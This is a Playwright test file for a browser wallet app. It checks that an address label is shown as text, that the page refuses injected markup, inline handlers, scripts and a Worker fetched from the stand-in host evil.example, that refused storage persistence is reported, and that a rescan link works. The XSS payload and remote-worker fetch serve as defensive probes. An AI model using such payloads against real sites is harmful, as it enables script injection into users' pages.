import { createWallet, expect, isLive, test } from './support/wallet.ts';

const MARKUP = '<img src=x onerror="window.hurt=1"><b>bold</b>';

test('T12 labels are text, and the browser refuses markup and inline script', async ({ page, faults }) => {
  await createWallet(page);
  await page.goto('/#/receive');
  await page.getByRole('button', { name: 'New' }).click();
  await page.getByLabel('What is it for?').fill(MARKUP);
  await page.getByRole('button', { name: 'Make the address' }).click();
  await expect(page.getByText(MARKUP).first()).toBeVisible();
  expect(await page.locator('img[src=x], b').count()).toBe(0);

  const outcomes = await page.evaluate(() => {
    const attempts: readonly (() => void)[] = [
      () => {
        document.body.innerHTML = '<b>markup</b>';
      },
      () => document.createElement('button').setAttribute('onclick', 'window.hurt = 1'),
      () => {
        const script = document.createElement('script');
        script.textContent = 'window.hurt = 1';
        document.head.append(script);
      },
      () => void new Worker('https://evil.example/worker.js'),
    ];
    return attempts.map((attempt) => {
      try {
        attempt();
        return 'done';
      } catch (error) {
        return (error as Error).name;
      }
    });
  });
  expect(outcomes).toEqual(['TypeError', 'TypeError', 'TypeError', 'TypeError']);
  expect(await page.evaluate(() => 'hurt' in window)).toBe(false);
  // The refusals were asked for.
  faults.length = 0;
});

test('T18 a browser that refuses to keep the storage is reported plainly, with the way to a backup', async ({ page }) => {
  await page.addInitScript(() => {
    const answer = async () => false;
    Object.defineProperty(navigator.storage, 'persist', { value: answer });
    Object.defineProperty(navigator.storage, 'persisted', { value: answer });
  });
  await createWallet(page);
  await page.goto('/#/settings/safety');
  await expect(page.getByText('The browser may clear this site’s storage')).toBeVisible();
  await page.getByRole('button', { name: 'Ask to keep it' }).click();
  await expect(page.getByText('The browser said no.')).toBeVisible();
  await expect(
    page
      .getByText('no backup file', { exact: false })
      .or(page.getByRole('heading', { name: /backup/i }))
      .first(),
  ).toBeVisible();
});

test('T23 a wallet that found nothing offers to look from an earlier block', async ({ page }) => {
  await createWallet(page);
  await page.goto('/#/');
  await isLive(page);
  await page.getByRole('link', { name: 'Missing a payment? Look from an earlier block' }).click();
  await expect(page).toHaveURL(/#\/settings\/scan$/);
  await expect(page.getByText('look through the chain again from an earlier block')).toBeVisible();
});
